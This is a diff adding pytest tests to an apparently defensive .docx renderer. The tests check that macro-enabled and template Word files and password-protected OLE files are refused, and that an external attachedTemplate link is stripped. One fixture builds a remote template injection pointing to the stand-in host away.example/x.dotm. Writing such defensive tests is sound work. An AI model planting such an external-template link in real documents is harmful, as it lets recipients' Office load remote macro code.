@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import re
 import zipfile
+from collections.abc import Callable
 from io import BytesIO
 from pathlib import Path
 
@@ -123,3 +125,49 @@ def test_a_document_with_a_part_twice_is_refused() -> None:
         archive.writestr("word/document.xml", b"<x/>")
     with pytest.raises(BaseFault, match="dua kali"):
         printed(stream.getvalue())
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "words"),
+    [
+        ("document.main+xml", "template.main+xml", "templat Word"),
+        ("openxmlformats-officedocument.wordprocessingml.document.main", "ms-word.document.macroEnabled.main", "makro"),
+    ],
+)
+def test_other_kinds_of_word_files_are_named(old: str, new: str, words: str) -> None:
+    data = rewritten(base("{{ isi }}"), "[Content_Types].xml", lambda text: text.replace(old, new))
+    with pytest.raises(BaseFault, match=words):
+        printed(data)
+    with pytest.raises(BaseFault, match="kata sandi"):
+        printed(b"\xd0\xcf\x11\xe0" + data)
+
+
+def test_the_template_an_office_file_is_attached_to_is_let_go() -> None:
+    data = rewritten(
+        base("{{ isi }}"),
+        "word/settings.xml",
+        lambda text: re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdAway"/>', text),
+    )
+    relation = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdAway" '
+        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+        'Target="http://away.example/x.dotm" TargetMode="External"/></Relationships>'
+    )
+    stream = BytesIO(data)
+    with zipfile.ZipFile(stream, "a") as archive:
+        archive.writestr("word/_rels/settings.xml.rels", relation)
+    parts = docx_reader.parts(printed(stream.getvalue()))
+    assert "word/settings.xml" in parts and b"attachedTemplate" not in parts["word/settings.xml"]
+    assert not [name for name, part in parts.items() if b"away.example" in part]
+
+
+def rewritten(data: bytes, name: str, change: Callable[[str], str]) -> bytes:
+    """A .docx with one of its parts changed."""
+    stream = BytesIO()
+    with zipfile.ZipFile(BytesIO(data)) as old, zipfile.ZipFile(stream, "w") as new:
+        for part in old.namelist():
+            text = old.read(part)
+            changed = change(text.decode()).encode() if part == name else text
+            assert part != name or changed != text
+            new.writestr(part, changed)
+    return stream.getvalue()
